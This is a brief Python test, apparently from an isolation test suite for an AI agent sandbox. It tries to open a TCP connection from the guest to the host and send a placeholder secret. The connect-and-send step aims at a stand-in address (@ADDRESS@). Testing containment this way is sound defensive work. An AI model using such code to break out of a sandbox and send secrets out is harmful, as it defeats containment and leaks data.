"""Connect to a TCP port of the host.

See: https://attack.mitre.org/techniques/T1095/
Layers: main bare
Control: witness
"""
from llmdas_sandbox.guest.tools import *



def attempt():
    for host in ("127.0.0.1", "@ADDRESS@"):
        try:
            with socket.create_connection((host, @TCP_PORT@), timeout=2) as connection:
                connection.sendall(b"@SECRET@")
        except OSError:
            pass
    return 0.0
